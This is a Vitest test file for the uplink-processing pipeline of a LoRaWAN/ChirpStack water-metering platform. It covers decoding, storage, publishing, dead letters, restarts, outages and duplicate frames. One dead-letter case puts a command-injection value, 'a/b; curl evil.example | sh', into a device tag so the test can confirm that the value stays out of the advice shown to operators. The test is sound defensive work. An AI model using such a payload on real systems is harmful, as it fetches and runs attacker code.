import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pino from 'pino'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { parseEvent } from '../../src/adapters/chirpstack/events/parse-event.ts'
import type { DecodeResult } from '../../src/codecs/codec-runner.ts'
import { OndineError } from '../../src/errors/ondine-error.ts'
import type { DirectoryDevice } from '../../src/inventory/directory.ts'
import type { DeviceActivity } from '../../src/inventory/ports.ts'
import type { NetworkEvent } from '../../src/lorawan/network-event.ts'
import type { Reading } from '../../src/readings/reading.ts'
import type { FrameToKeep } from '../../src/uplinks/frames/frame-archive.ts'
import { modelsOf } from '../../src/uplinks/models.ts'
import type { RawEvent } from '../../src/uplinks/ports.ts'
import { Uplinks, type UplinksOptions } from '../../src/uplinks/uplinks.ts'
import { FakeCodecRunner } from '../fakes/fake-codec-runner.ts'
import { FakeDeadLetters } from '../fakes/fake-dead-letters.ts'
import { FakeEventSource } from '../fakes/fake-event-source.ts'
import { FakeUplinkMetrics } from '../fakes/fake-uplink-metrics.ts'
import { MemoryReadingStore } from '../fakes/memory-reading-store.ts'
import { testModel } from '../support/test-model.ts'
import { up } from './uplink-event.ts'

const poll = { timeout: 20_000, interval: 5 }
const meter = '0018b20000001a2b'

const waterMeter = testModel('acme/meter', {
  title: 'Meter',
  vendor: 'Acme',
  family: 'water-meter',
  version: '1.0.0',
  service: 'water',
  deviceProfile: 'acme/meter',
  expectedInterval: 3600,
  measures: [{ field: 'volume', name: 'volume' }],
})

function installed(devEui: string, parts: Partial<DirectoryDevice> = {}): DirectoryDevice {
  return {
    devEui,
    tenant: 'tours',
    timeZone: 'Europe/Paris',
    service: 'water',
    model: 'acme/meter',
    firmware: null,
    status: 'installed',
    assignments: [
      { channel: 'main', asset: `w-${devEui.slice(-4)}`, service: 'water', parameters: {}, from: '2026-01-01T00:00:00.000Z', to: null },
    ],
    ...parts,
  }
}

function other(devEui: string, type: string, fields: Record<string, unknown>): RawEvent {
  const { topic, payload } = up(devEui, 1)
  const { time, deviceInfo } = JSON.parse(Buffer.from(payload).toString())
  const event = { time, deviceInfo, ...fields }
  return { topic: topic.replace('/up', `/${type}`), payload: Buffer.from(JSON.stringify(event)), qos: 1 }
}

let folder: string
let source: FakeEventSource
let metrics: FakeUplinkMetrics
let deadLetters: FakeDeadLetters
let store: MemoryReadingStore
let codecs: FakeCodecRunner
let devices: Map<string, DirectoryDevice>
let published: Reading[]
let followed: Reading[]
let ordered: NetworkEvent[]
let activity: DeviceActivity[]
let keptFrames: FrameToKeep[]
let lines: { level: number; msg: string; reason?: string; consumer?: string }[]
let decode: (first: number) => DecodeResult
const running: Uplinks[] = []

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'ondine-uplinks-'))
  source = new FakeEventSource()
  metrics = new FakeUplinkMetrics()
  deadLetters = new FakeDeadLetters()
  store = new MemoryReadingStore()
  decode = (first) => ({ ok: true, data: { volume: first }, warnings: [] })
  codecs = new FakeCodecRunner({ 'acme/meter': { decode: ({ bytes }) => decode(bytes[0] ?? -1) } })
  devices = new Map([[meter, installed(meter)]])
  published = []
  followed = []
  ordered = []
  activity = []
  keptFrames = []
  lines = []
})

afterEach(async () => {
  for (const uplinks of running.splice(0)) await uplinks.stop()
  await rm(folder, { recursive: true, force: true })
})

/** told at once */
const told = (_: unknown) => ({ told: Promise.resolve() })
const topics = {
  publish: async (readings: readonly Reading[]) => told(published.push(...readings)),
  follow: async (readings: readonly Reading[]) => told(followed.push(...readings)),
  publishLate: async (readings: readonly Reading[]) => void published.push(...readings),
}

async function start(parts: Partial<UplinksOptions> = {}): Promise<Uplinks> {
  const uplinks = new Uplinks({
    folder,
    retentionMs: 1e9,
    source,
    parse: parseEvent,
    directory: { resolve: (devEui) => devices.get(devEui) },
    models: modelsOf({ get: (slug) => (slug === waterMeter.slug ? waterMeter : undefined), list: () => [waterMeter] }),
    codecs,
    variables: async () => ({}),
    store,
    deadLetters,
    topics,
    orders: async (events) => void ordered.push(...events),
    frames: { keep: async (frames) => void keptFrames.push(...frames) },
    activity: { record: async (activities) => void activity.push(...activities) },
    logger: pino({ level: 'trace' }, { write: (line: string) => void lines.push(JSON.parse(line)) }),
    metrics,
    backoff: { first: 10, most: 50 },
    ...parts,
  })
  await uplinks.start()
  running.push(uplinks)
  return uplinks
}

async function stop(uplinks: Uplinks): Promise<void> {
  running.splice(running.indexOf(uplinks), 1)
  await uplinks.stop()
}

async function stored(): Promise<readonly Reading[]> {
  const all = { tenant: null, services: null, assets: null }
  return (await store.list(all, { order: 'oldest first', limit: 10_000 })).readings
}

const settled = (uplinks: Uplinks) =>
  expect.poll(() => (['store', 'topics', 'orders', 'network'] as const).map((name) => uplinks.lag(name)), poll).toEqual([0, 0, 0, 0])

test('an uplink becomes one reading of the asset, stored and published alike', async () => {
  const uplinks = await start()
  await source.receive(up(meter, 7))
  await settled(uplinks)
  const expected = {
    v: 1,
    tenant: 'tours',
    service: 'water',
    asset: 'w-1a2b',
    device: meter,
    channel: 'main',
    family: 'water-meter',
    model: 'acme/meter@1.0.0',
    time: '2026-11-22T06:00:07.000Z',
    receivedAt: '2026-11-22T06:00:07.000Z',
    quality: 'good',
    flags: {},
    values: { volume: 7 },
    radio: { gateways: 2, gateway: '7076ff0056080002', rssi: -90, snr: 6.5, spreadingFactor: 9, margin: 19 },
    frame: { fCnt: 7, fPort: 100 },
  }
  expect(await stored()).toEqual([expected])
  expect(published).toEqual([expected])
})

test('store and topics share the decoding; orders and network get every event', async () => {
  const uplinks = await start()
  for (let i = 0; i < 50; i++) await source.receive(up(meter, i))
  await source.receive(other(meter, 'join', { deduplicationId: 'd', devAddr: '00396d32', regionConfigId: 'eu868' }))
  await source.receive(other(meter, 'log', { level: 'ERROR', code: 'UPLINK_MIC', description: 'bad', context: {} }))
  await settled(uplinks)
  expect(codecs.frames).toHaveLength(50)
  expect([metrics.count('decoded'), metrics.count('readings')]).toEqual([50, 50])
  expect(ordered.map((event) => event.type).sort()).toEqual([...Array(1).fill('join'), 'log', ...Array(50).fill('uplink')].sort())
  expect(activity.findLast((one) => one.joinedAt)).toMatchObject({ devEui: meter, joinedAt: '2026-11-22T06:00:01.000Z' })
  expect(activity.findLast((one) => one.lastLog)?.lastLog).toEqual({ code: 'UPLINK_MIC', time: '2026-11-22T06:00:01.000Z' })
  expect(
    activity
      .map((one) => one.lastSeen ?? '')
      .sort()
      .at(-1),
  ).toBe('2026-11-22T06:00:49.000Z')
})

test('a restart goes on where it stopped: nothing missing, nothing stored twice', async () => {
  let uplinks = await start()
  await source.receive(...Array.from({ length: 30 }, (_, i) => up(meter, i)))
  await stop(uplinks)
  uplinks = await start()
  await source.receive(...Array.from({ length: 30 }, (_, i) => up(meter, 30 + i)))
  await settled(uplinks)
  expect((await stored()).map((reading) => reading.frame.fCnt)).toEqual(Array.from({ length: 60 }, (_, i) => i))
  expect(new Set(published.map((reading) => reading.frame.fCnt)).size).toBe(60)
})

describe('dead letters', () => {
  const unknown = '70b3d5e75e000001'

  test.each<[string, () => RawEvent, Partial<{ devEui: string | null; tenant: string | null; advice: string }>]>([
    ['malformed', () => ({ ...up(meter, 1), payload: Buffer.from('{"time": 12') }), { devEui: null }],
    [
      'unknown-device',
      () => up(unknown, 1),
      { devEui: unknown, tenant: null, advice: `ondine device install ${unknown} <asset> --model <vendor/model> --tenant <tenant>` },
    ],
    [
      'unknown-device',
      () => {
        const event = JSON.parse(String(Buffer.from(up(unknown, 1).payload)))
        event.deviceInfo.tags = { model: 'a/b; curl evil.example | sh' }
        return { ...up(unknown, 1), payload: Buffer.from(JSON.stringify(event)) }
      },
      { advice: `ondine device install ${unknown} <asset> --model <vendor/model> --tenant <tenant>` },
    ],
    [
      'unknown-model',
      () => {
        devices.set(unknown, installed(unknown, { model: null }))
        return up(unknown, 1)
      },
      { tenant: 'tours', advice: `ondine device install ${unknown} <asset> --model <vendor/model>` },
    ],
    [
      'unknown-model',
      () => {
        devices.set(unknown, installed(unknown, { model: 'acme/other' }))
        return up(unknown, 1)
      },
      { advice: 'ondine codec list' },
    ],
    [
      'not-installed',
      () => {
        devices.set(unknown, installed(unknown, { status: 'in stock', assignments: [] }))
        return up(unknown, 1)
      },
      { advice: `ondine device install ${unknown} <asset> --model acme/meter` },
    ],
    [
      'not-installed',
      () => {
        const [assignment] = installed(unknown).assignments
        devices.set(unknown, installed(unknown, { assignments: [{ ...assignment!, to: '2026-11-22T06:00:01.000Z' }] }))
        return up(unknown, 1)
      },
      {},
    ],
    [
      'codec-error',
      () => {
        decode = (first) =>
          first === 99 ? { ok: false, reason: 'codec-error', errors: ['boom'] } : { ok: true, data: { volume: first }, warnings: [] }
        return up(meter, 99)
      },
      { advice: 'ondine codec list' },
    ],
    [
      'codec-timeout',
      () => {
        decode = (first) =>
          first === 99 ? { ok: false, reason: 'timeout', errors: [] } : { ok: true, data: { volume: first }, warnings: [] }
        return up(meter, 99)
      },
      {},
    ],
  ])('%s: kept aside with its cause and what mends it; its neighbours arrive', async (reason, event, letter) => {
    const uplinks = await start()
    const bad = event()
    await source.receive(up(meter, 10), bad, up(meter, 11))
    await settled(uplinks)
    expect((await stored()).map((reading) => reading.frame.fCnt)).toEqual([10, 11])
    expect(published.map((reading) => reading.frame.fCnt)).toEqual([10, 11])
    expect(deadLetters.letters).toEqual([expect.objectContaining({ offset: 1, reason, topic: bad.topic, ...letter })])
    expect(Buffer.from(deadLetters.letters[0]!.payload).equals(Buffer.from(bad.payload))).toBe(true)
    expect(metrics.count(`deadLettered:${reason}`)).toBe(1)
    expect(lines.filter((line) => line.msg.startsWith('uplinks kept aside')).map((line) => line.reason)).toEqual([reason])
  })

  test('variables-unknown: only frames of models that read variables need the network server', async () => {
    const rainGauge = { ...waterMeter, slug: 'acme/rain', variables: ['resolution'] }
    devices.set(unknown, installed(unknown, { model: rainGauge.slug }))
    const models = modelsOf({ get: (slug) => [waterMeter, rainGauge].find((model) => model.slug === slug), list: () => [] })
    const asked: string[] = []
    let away = true
    const uplinks = await start({
      models,
      variables: async (devEui) => {
        asked.push(devEui)
        if (away) throw new OndineError('chirpstack.unreachable', { url: 'http://127.0.0.1:8080', reason: 'away' })
        return { resolution: '0.2' }
      },
    })
    await source.receive(up(meter, 10), up(unknown, 1))
    await settled(uplinks)
    expect(deadLetters.letters).toEqual([
      expect.objectContaining({ offset: 1, reason: 'variables-unknown', devEui: unknown, tenant: 'tours' }),
    ])
    away = false
    await source.receive(up(unknown, 2))
    await settled(uplinks)
    expect(asked).toEqual([unknown, unknown])
    expect(codecs.frames.map(({ variables }) => variables)).toEqual([{}, { resolution: '0.2' }])
  })

  test('a reading that the store will never take', async () => {
    decode = (first) => ({ ok: true, data: { volume: first === 2 ? Number.NaN : first }, warnings: [] })
    const rejecting = {
      write: async (readings: readonly Reading[]) => {
        const rejected = readings.filter((reading) => reading.frame.fCnt === 2)
        await store.write(readings.filter((reading) => reading.frame.fCnt !== 2))
        return { rejected: rejected.map((reading) => ({ reading: structuredClone(reading), reason: 'no' })) }
      },
    }
    const uplinks = await start({ store: rejecting })
    await source.receive(up(meter, 1), up(meter, 2), up(meter, 3))
    await settled(uplinks)
    expect(deadLetters.letters).toEqual([expect.objectContaining({ offset: 1, reason: 'store-rejected', devEui: meter, tenant: 'tours' })])
    expect((await stored()).map((reading) => reading.frame.fCnt)).toEqual([1, 3])
  })

  test('MAC commands alone and events of no interest are no dead letters', async () => {
    const uplinks = await start()
    await source.receive(up(meter, 1, { fPort: 0, data: '' }), {
      topic: 'eu868/gateway/7076ff0056080001/event/mesh',
      payload: Buffer.of(1),
      qos: 0,
    })
    await settled(uplinks)
    expect([deadLetters.letters, await stored()]).toEqual([[], []])
  })

  test('the model comes from the inventory, else the tag, else the device profile', async () => {
    devices.set(meter, installed(meter, { model: null }))
    const uplinks = await start()
    const info = JSON.parse(Buffer.from(up(meter, 1).payload).toString()).deviceInfo
    await source.receive(up(meter, 1, { deviceInfo: { ...info, tags: { model: 'acme/meter' } } }))
    await source.receive(up(meter, 2, { deviceInfo: { ...info, deviceProfileName: 'acme/meter' } }))
    await settled(uplinks)
    expect((await stored()).map((reading) => reading.model)).toEqual(['acme/meter@1.0.0', 'acme/meter@1.0.0'])
  })
})

describe('what is away holds back nobody else', () => {
  test('store down, then up', async () => {
    let down = true
    const shaky = {
      write: async (readings: readonly Reading[]) => {
        if (down) throw new OndineError('broker.unreachable', { reason: 'a store for this test' })
        return store.write(readings)
      },
    }
    const uplinks = await start({ store: shaky })
    for (let i = 0; i < 20; i++) await source.receive(up(meter, i))
    await expect.poll(() => published.length, poll).toBe(20)
    await expect.poll(() => ordered.length, poll).toBe(20)
    await expect.poll(() => metrics.count('retried:store:broker.unreachable'), poll).toBeGreaterThan(2)
    expect(uplinks.lag('store')).toBe(20)
    expect(lines.filter((line) => line.consumer === 'store')).toHaveLength(1)
    down = false
    await settled(uplinks)
    expect((await stored()).length).toBe(20)
    expect(lines.filter((line) => line.consumer === 'store').map((line) => line.msg)).toEqual([
      'consumer: waits, tries again until it works',
      'consumer: goes on',
    ])
  })

  test('a stop while the store is down: the next start begins with the same batch', async () => {
    const down = { write: () => Promise.reject(new OndineError('broker.unreachable', { reason: 'down' })) }
    const first = await start({ store: down })
    await source.receive(up(meter, 1), up(meter, 2))
    await expect.poll(() => metrics.count('retried:store:broker.unreachable'), poll).toBeGreaterThan(0)
    await stop(first)
    const second = await start()
    await settled(second)
    expect((await stored()).map((reading) => reading.frame.fCnt)).toEqual([1, 2])
  })

  test.each(['topics', 'orders', 'network'] as const)('%s failing', async (name) => {
    let failing = true
    const shaky = async () => {
      if (failing) throw new Error('a fault of ours')
    }
    const uplinks = await start({
      ...(name === 'topics' ? { topics: { ...topics, publish: async () => told(await shaky()) } } : {}),
      ...(name === 'orders' ? { orders: shaky } : {}),
      ...(name === 'network' ? { activity: { record: shaky } } : {}),
    })
    await source.receive(up(meter, 1))
    await expect.poll(async () => (await stored()).length, poll).toBe(1)
    await expect.poll(() => metrics.count(`retried:${name}:unexpected`), poll).toBeGreaterThan(1)
    expect(lines.filter((line) => line.consumer === name).map((line) => line.level)).toEqual([50])
    failing = false
    await settled(uplinks)
  })

  test('codecs that cannot be asked: both consumers wait, nothing is remembered wrongly', async () => {
    let away = true
    const codec = {
      decode: async (frames: Parameters<FakeCodecRunner['decode']>[0]) => {
        if (away) throw new Error('no codec process')
        return codecs.decode(frames)
      },
    }
    const uplinks = await start({ codecs: codec })
    await source.receive(up(meter, 1))
    await expect.poll(() => ordered.length, poll).toBe(1)
    await expect.poll(() => metrics.count('retried:topics:unexpected'), poll).toBeGreaterThan(0)
    away = false
    await settled(uplinks)
    expect([(await stored()).length, published.length]).toEqual([1, 1])
  })
})

test('is not caught up while events of the past come in', async () => {
  const uplinks = await start()
  expect(uplinks.caughtUp('topics')).toBe(true)
  const ago = (minutes: number) => new Date(Date.now() - minutes * 60_000).toISOString()
  await source.receive(up(meter, 1, { time: ago(60) }), up(meter, 2, { time: ago(59) }))
  await settled(uplinks)
  expect(uplinks.caughtUp('topics')).toBe(false)
  expect(uplinks.caughtUp('topics', Date.now() + 130_000)).toBe(true)
  await source.receive(up(meter, 3, { time: ago(0) }))
  await settled(uplinks)
  expect(uplinks.caughtUp('topics')).toBe(true)
})

test('a delay that does not end is that of a clock, not of a backlog', async () => {
  vi.useFakeTimers({ toFake: ['Date'], now: Date.now() })
  try {
    const uplinks = await start()
    const slow = () => new Date(Date.now() - 5 * 60_000).toISOString()
    for (let minutes = 0; minutes <= 70; minutes += 10) {
      await source.receive(up(meter, minutes, { time: slow() }))
      await settled(uplinks)
      expect([minutes, uplinks.caughtUp('topics')]).toEqual([minutes, minutes >= 60])
      vi.setSystemTime(Date.now() + 10 * 60_000)
    }
  } finally {
    vi.useRealTimers()
  }
})

test('every uplink with a payload is kept for replay, of unknown devices too, with whose it is', async () => {
  const uplinks = await start()
  await source.receive(up(meter, 7))
  await source.receive(up('ffffffffffffffff', 8))
  await source.receive(up(meter, 9, { fPort: 0 }))
  await source.receive(other(meter, 'join', { devAddr: '00396d32' }))
  await expect.poll(() => uplinks.lag('frames'), poll).toBe(0)
  expect(keptFrames.map(({ uplink, ...owner }) => [uplink.fCnt, owner])).toEqual([
    [7, { tenant: 'tours', service: 'water', modelKnown: true }],
    [8, { tenant: null, service: null, modelKnown: false }],
  ])
})

describe('what comes twice', () => {
  const first = [up(meter, 1), up(meter, 2), up(meter, 3)]
  const counters = () => published.map(({ frame }) => frame.fCnt)

  test('changes nothing, in whatever order: one row, one reading, no letter; and is counted', async () => {
    const unknown = '70b3d5e75e000001'
    const uplinks = await start()
    await source.receive(...first, up(meter, 2), up(unknown, 9), up(unknown, 9), up(meter, 1), up(meter, 4))
    await settled(uplinks)
    expect(counters()).toEqual([1, 2, 3, 4])
    expect((await stored()).map(({ frame }) => frame.fCnt)).toEqual([1, 2, 3, 4])
    expect(deadLetters.letters).toHaveLength(1)
    expect(metrics.count('repeated')).toBe(3)
  })

  test('neither after a restart, nor after a crash that lost nothing but the memory', async () => {
    const before = await start()
    await source.receive(...first)
    await settled(before)
    await stop(before)
    const after = await start()
    await source.receive(...first, up(meter, 4))
    await settled(after)
    expect(counters()).toEqual([1, 2, 3, 4])
    expect(metrics.count('repeated')).toBe(3)
  })

  test('a session that begins again with the same counter is no repeat', async () => {
    const uplinks = await start()
    await source.receive(up(meter, 1), up(meter, 1, { devAddr: '00396d33' }), up(meter, 1, { time: '2026-11-22T09:00:00+00:00' }))
    await settled(uplinks)
    expect(counters()).toEqual([1, 1, 1])
  })
})

describe('frames of one second of a clock', () => {
  const clocked = {
    ...waterMeter,
    slug: 'acme/clock',
    clock: { field: 'at', tolerance: 7200 },
    codec: { ...waterMeter.codec, model: 'acme/clock' },
  }
  const models = modelsOf({ get: (slug) => (slug === clocked.slug ? clocked : undefined), list: () => [] })
  const timed = { ...codecRunnerOf('acme/clock'), models }

  function codecRunnerOf(slug: string) {
    const data = (volume: number | undefined) => ({ volume, at: '2026-11-22T06:00:00Z' })
    return { codecs: new FakeCodecRunner({ [slug]: { decode: ({ bytes }) => ({ ok: true, data: data(bytes[0]), warnings: [] }) } }) }
  }

  test('are all kept, and their backlog gives the same rows', async () => {
    devices.set(meter, installed(meter, { model: clocked.slug }))
    const before = await start(timed)
    await source.receive(up(meter, 1), up(meter, 2))
    await settled(before)
    await stop(before)
    const after = await start(timed)
    await source.receive(up(meter, 3))
    await settled(after)
    const rows = (await stored()).map(({ time, values }) => [time, values.volume])
    expect(rows).toEqual([
      ['2026-11-22T06:00:00.000Z', 1],
      ['2026-11-22T06:00:00.003Z', 2],
      ['2026-11-22T06:00:00.004Z', 3],
    ])
    expect(published.map(({ time }) => time)).toEqual(rows.map(([time]) => time))
  })
})

describe('the live lane', () => {
  test('what is new changes the state at once behind a backlog, and comes again in its order', async () => {
    let open = () => {}
    const gate = new Promise<void>((resolve) => {
      open = resolve
    })
    const slow = {
      ...topics,
      publish: async (readings: readonly Reading[]) => {
        await gate
        return topics.publish(readings)
      },
    }
    const before = await start({ topics: { ...topics, publish: () => Promise.reject(new Error('away')) } })
    await source.receive(...Array.from({ length: 3_000 }, (_, index) => up(meter, index)))
    await stop(before)
    const uplinks = await start({ topics: slow })
    await source.receive(up(meter, 3_000), up(meter, 3_001))
    await expect.poll(() => followed.map(({ frame }) => frame.fCnt), poll).toEqual([3_000, 3_001])
    expect(published).toEqual([])
    open()
    await settled(uplinks)
    expect(published.map(({ frame }) => frame.fCnt)).toEqual(Array.from({ length: 3_002 }, (_, index) => index))
    // Without a backlog nobody runs ahead.
    followed = []
    await expect
      .poll(async () => {
        await source.receive(up(meter, published.length))
        await settled(uplinks)
        const ahead = followed.length
        followed = []
        return ahead
      }, poll)
      .toBe(0)
  })

  test('the cursor waits until what a batch changes is told', async () => {
    let tell = () => {}
    const waiting = { ...topics, publish: async (readings: readonly Reading[]) => ({ ...(await topics.publish(readings)), told: late }) }
    const late = new Promise<void>((resolve) => {
      tell = resolve
    })
    const uplinks = await start({ topics: waiting })
    await source.receive(up(meter, 1))
    await settled(uplinks)
    const stopped = stop(uplinks)
    await stopped
    const again = await start()
    await settled(again)
    expect(published.map(({ frame }) => frame.fCnt)).toEqual([1, 1])
    tell()
  })
})
